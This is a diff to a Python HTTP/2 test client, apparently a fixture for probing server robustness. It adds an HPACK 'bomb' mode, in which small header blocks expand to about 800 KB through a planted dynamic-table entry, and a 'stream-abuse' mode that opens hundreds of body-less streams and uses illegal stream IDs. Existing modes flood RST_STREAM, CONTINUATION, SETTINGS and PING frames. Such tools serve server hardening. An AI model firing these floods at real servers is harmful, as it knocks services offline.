@@ -13,8 +13,18 @@ Every mode sends the preface and SETTINGS, reads the server's SETTINGS and ackno
                       one small literal header field, never ending the block
   settings-flood      COUNT (500) SETTINGS frames in one write
   ping-flood          COUNT (500) PING frames in one write
+  hpack-bomb          a GET of /api/users whose header block adds x-pad (a 4000-byte value) to
+                      the server's HPACK dynamic table (literal with incremental indexing; entry
+                      size 5 + 4000 + 32 = 4037 fits the default 4096), answered; then COUNT (10)
+                      GETs, one write each without waiting, each block the four pseudo-headers
+                      plus 200 times 0xBE (indexed field 62, that entry): 230 bytes that
+                      decode to about 800 KB. These blocks are written by hand, not with hpack
+  stream-abuse        COUNT (300) HEADERS of POST /api/items (END_HEADERS, no END_STREAM: each
+                      stream waits for a body that never comes) on streams 1, 3, 5, ... in one
+                      write; then a HEADERS on stream 2 (even: a client may not use it) and one
+                      reusing stream 1
 Every mode then reads until the server closes or is quiet for a second; all but
-continuation-flood end with GOAWAY(NO_ERROR) before closing.
+continuation-flood end with GOAWAY(NO_ERROR) before closing when the server has not closed.
 """
 import socket
 import struct
@@ -31,7 +41,8 @@ NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS",
          6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
 
 mode, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
-default = {"normal": 20, "rapid-reset": 200, "continuation-flood": 300, "settings-flood": 500, "ping-flood": 500}
+default = {"normal": 20, "rapid-reset": 200, "continuation-flood": 300, "settings-flood": 500, "ping-flood": 500,
+           "hpack-bomb": 10, "stream-abuse": 300}
 if mode not in default:
     sys.exit(f"unknown mode {mode}; one of {', '.join(default)}")
 count = int(sys.argv[4]) if len(sys.argv) > 4 else default[mode]
@@ -54,6 +65,15 @@ class Conn:
 
     def send(self, data):
         self.s.sendall(data)
+
+    def try_send(self, data):
+        """send, but False when the server has already reset or closed (what it sent before
+        is still read by drain)."""
+        try:
+            self.s.sendall(data)
+            return True
+        except OSError:
+            return False
 
     def read_frame(self, timeout):
         """One frame, or None when nothing comes in `timeout` seconds or the peer closed."""
@@ -108,6 +128,30 @@ def request_block(enc, path="/api/users"):
                        ("accept", "application/json")])
 
 
+def hint(n, prefix, first=0):
+    """An HPACK integer with an N-bit prefix, `first` holding the bits above it (RFC 7541 5.1)."""
+    top = (1 << prefix) - 1
+    if n < top:
+        return bytes([first | n])
+    out, n = [first | top], n - top
+    while n >= 128:
+        out.append(n % 128 | 0x80)
+        n //= 128
+    return bytes(out + [n])
+
+
+def hstr(b):
+    """An HPACK string literal without Huffman."""
+    return hint(len(b), 7) + b
+
+
+def pseudo(method, path):
+    """:method (static 2 GET, 3 POST), :scheme http (static 6), :path and :authority as literals
+    without indexing with static names 4 and 1: adds nothing to the dynamic table."""
+    return (b"\x82" if method == "GET" else b"\x83") + b"\x86" + hint(4, 4) + hstr(path.encode()) \
+        + hint(1, 4) + hstr(f"{host}:{port}".encode())
+
+
 def literal(name, value):
     """A literal header field without indexing, new name, no Huffman (RFC 7541 6.2.2)."""
     return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
@@ -144,6 +188,24 @@ elif mode == "settings-flood":
     c.send(b"".join(frame(SETTINGS, 0, 0, struct.pack(">HI", 0x4, 65535)) for _ in range(count)))
 elif mode == "ping-flood":
     c.send(b"".join(frame(PING, 0, 0, struct.pack(">Q", i)) for i in range(count)))
+elif mode == "hpack-bomb":
+    # Literal with incremental indexing, new name (0x40): x-pad enters the dynamic table at 62.
+    pad = b"\x40" + hstr(b"x-pad") + hstr(b"p" * 4000)
+    c.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, pseudo("GET", "/api/users") + pad))
+    while 1 not in c.ended:
+        if c.read_frame(5) is None:
+            sys.exit("stream 1: no answer")
+    bomb = pseudo("GET", "/api/users") + b"\xbe" * 200
+    for i in range(count):
+        if not c.try_send(frame(HEADERS, END_STREAM | END_HEADERS, 2 * i + 3, bomb)):
+            break
+elif mode == "stream-abuse":
+    post = [(":method", "POST"), (":scheme", "http"), (":path", "/api/items"),
+            (":authority", f"{host}:{port}"), ("user-agent", "h2-fixture-client/1"),
+            ("content-type", "application/json"), ("content-length", "16")]
+    c.send(b"".join(frame(HEADERS, END_HEADERS, 2 * i + 1, enc.encode(post)) for i in range(count)))
+    if c.try_send(frame(HEADERS, END_STREAM | END_HEADERS, 2, request_block(enc))):
+        c.try_send(frame(HEADERS, END_STREAM | END_HEADERS, 1, request_block(enc)))
 
 c.drain()
 if not c.closed and mode != "continuation-flood":
